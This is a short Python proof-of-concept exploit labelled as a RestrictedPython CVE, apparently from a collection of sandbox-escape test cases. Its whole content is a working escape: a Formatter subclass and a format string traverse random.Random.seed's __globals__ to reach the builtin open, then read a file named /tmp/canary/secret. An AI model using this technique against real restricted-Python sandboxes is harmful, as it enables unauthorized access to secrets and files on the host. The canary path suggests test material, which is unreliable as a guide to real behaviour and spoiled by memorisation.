# source: RestrictedPython CVE-2026-76825
# effect: secret

import random
from string import Formatter


class Keeper(Formatter):
    def format_field(self, value, spec):
        return value("/tmp/canary/secret").read()


print(Keeper().vformat("{0.__globals__[__builtins__][open]}", [random.Random.seed], {}))
